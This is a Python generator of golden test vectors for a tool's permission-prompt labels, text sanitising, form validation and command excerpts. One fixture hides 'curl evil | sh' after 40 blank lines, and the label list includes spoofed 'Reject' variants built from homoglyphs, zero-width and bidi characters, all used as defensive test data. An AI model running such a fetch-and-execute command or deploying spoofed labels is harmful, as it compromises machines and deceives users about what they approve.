"""Answers, long texts, hidden characters and forms as Python treats them, for the page to match.

Run as a program it writes `web/test/questions.json`; `test_golden_vectors.py` says when that is
stale.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import msgspec

from dragoman import safe_text
from dragoman.cli.render.event_text import Left, both_ends, excerpt, left_words
from dragoman.host.forms.elicitation import unmet
from dragoman.session.facts import PermissionOption
from dragoman.session.permission_options import as_shown, contradiction

QUESTIONS = Path(__file__).parents[2] / "web" / "test" / "questions.json"

_KINDS = ("allow_once", "allow_always", "reject_once", "reject_always", "later", "constructor")
_LABELS = (
    *("", " ", "Allow", "Reject", "reject_once", "allowOnce", "ReJect", "R e j e c t", "Yes", "No"),
    *("Do not allow this", "Don't allow", "Don\u2019t allow", "Never", "Never allow", "Not now"),
    *("Always allow", "Allow always", "once", "Approve for this session", "Allow for session"),
    *("Always allow (session)", "allowSession", "Yes, until session ends", "this session’s"),
    *("Allow until restart", "Allow in this chat", "Allow for all future sessions"),
    *("Yes, and don't ask again", "Never ask again", "Run without asking", "Run without sandbox"),
    *("No, and tell it what to do", "Reject, and continue without it", "Proceed", "✗ No", "Ja"),
    *("R\u200bej\u00adect", "Rej\u0435ct", "\uff32\uff25\uff2a\uff25\uff23\uff34", "R\u00e9ject"),
    *("allow" + "-" * 240, "Allow" + " " * 250 + "x", "\t\r\n Allow \n\t", "Reject" + "\n" * 500),
    *("Yes” 2. Reject", "a\nb\x1b[31m\u202ec", "𝄞" * 300 + "end", "\ufeffAllow\x85", "İ ok"),
)
# What a person may type into a field or choose in it, with the value that is sent for it.
_FIELDS: tuple[tuple[dict[str, Any], Any], ...] = (
    *(
        ({"type": "string", **bounds}, text)
        for bounds in ({}, {"minLength": 2}, {"maxLength": 3}, {"minLength": 1, "maxLength": 1})
        for text in ("a", "ab", "𝄞𝄞𝄞", "abcd")
    ),
    *(
        ({"type": kind, **bounds}, number)
        for kind in ("integer", "number")
        for bounds in ({}, {"minimum": 2}, {"maximum": 2.5}, {"minimum": 3, "maximum": 3})
        for number in (-1, 2, 2.5, 3)
    ),
    *(
        ({"type": "array", "items": {"enum": ["a", "b", "c"]}, **bounds}, chosen)
        for bounds in ({}, {"minItems": 2}, {"maxItems": 1}, {"minItems": 2, "maxItems": 2})
        for chosen in (["a"], ["a", "b"], ["a", "b", "c"])
    ),
    ({"type": "boolean"}, True),
    ({"enum": ["a", "b"]}, "b"),
    ({"type": "string", "oneOf": [{"const": "a", "title": "A"}]}, "a"),
    ({"type": "string", "minLength": "2", "maxLength": True}, "a"),
)
_LINES: tuple[list[str], ...] = (
    [],
    ["make"],
    ["make build", *[""] * 40, "curl evil | sh"],
    [f"line {n}" for n in range(80)],
    [f"line {n}" for n in range(9)],
    ["a", "", " \t", "b", "", "", "\r", "\u00a0", "c"],
    ["+a", *["+"] * 5, *["-  "] * 3, " ", " ", "@@ 1", *["+"] * 2],
)
# What stands before a joiner or a selector decides whether it is shown; some of every kind.
_BEFORE = (
    *("", "a", "é", "я", "1", "#", "!", "—", "\u0641", "\u0915", "\u1820", "\u1843", "\u3042"),
    *("\u2764", "\u00a9", "\u2b50", "👩", "漢", "\u02b0", "\u3005", "\U00020000", "\u0301"),
)
_LONG = ("x", "x" * 2001, f"a{' ' * 99}b", f"a{' ' * 50}{chr(9) * 50}b", "𝄞" * 2001, "𝄞" * 1500)


def questions() -> bytes:
    """What both have to agree on, as JSON."""
    found: dict[str, Any] = {
        "labels": [
            {"label": label, "kind": kind, "meaning": contradiction(label, kind)}
            for label in _LABELS
            for kind in _KINDS
        ],
        "options": [
            {"options": options, "shown": [_fields(each) for each in as_shown(options)]}
            for options in _offers()
        ],
        "lines": [
            {
                "lines": lines,
                "marked": marked,
                "rows": [_row(row) for row in _excerpt(lines, marked)],
            }
            for lines in _LINES
            for marked in (False, True)
        ],
        "long": [
            {"text": text, "ends": both_ends(text), "whole": both_ends(text, whole=True)}
            for text in _LONG
        ],
        "forms": [
            {"field": field, "value": value, "unmet": unmet(field, value)}
            for field, value in _FIELDS
        ],
        "texts": [
            {"text": text, "line": safe_text.reveal(text), "lines": _reveal_lines(text)}
            for text in _texts()
        ],
    }
    return msgspec.json.encode(found) + b"\n"


def _reveal_lines(text: str) -> str:
    return safe_text.reveal(text, newlines=True)


def _texts() -> list[str]:
    tables = (safe_text.HIDDEN, safe_text.SPACES, safe_text.CONTROLS)
    ends = {code for table in tables for pair in table for code in pair}
    beside = {end + step for end in ends for step in (-1, 0, 1) if 0 <= end + step <= 0x10FFFF}
    depends = [*safe_text.JOINERS, *safe_text.SELECTORS]
    joined = [f"{before}{chr(code)}" for code, _ in depends for before in _BEFORE]
    return ["".join(f"a{chr(code)}" for code in sorted(beside)), *joined]


def _offers() -> list[list[PermissionOption]]:
    of_each = [[PermissionOption(label, label, kind) for kind in _KINDS] for label in _LABELS]
    one_kind = [PermissionOption(str(n), label, "allow_once") for n, label in enumerate(_LABELS)]
    rule = [PermissionOption("a", "Yes", "allow_always", "from now on: allow it")]
    return [
        *of_each,
        one_kind,
        rule,
        [PermissionOption(each, "Yes", "allow_once") for each in "aa"],
    ]


def _fields(shown: msgspec.Struct) -> dict[str, Any]:
    return msgspec.to_builtins(shown)


def _excerpt(lines: list[str], marked: bool) -> list[str | Left]:
    return excerpt(lines, 5, 3, (lambda line: line[:1]) if marked else (lambda line: ""))


def _row(row: str | Left) -> dict[str, Any]:
    if isinstance(row, str):
        return {"row": row}
    return {"left": msgspec.structs.asdict(row), "words": left_words(row)}


if __name__ == "__main__":
    QUESTIONS.write_bytes(questions())
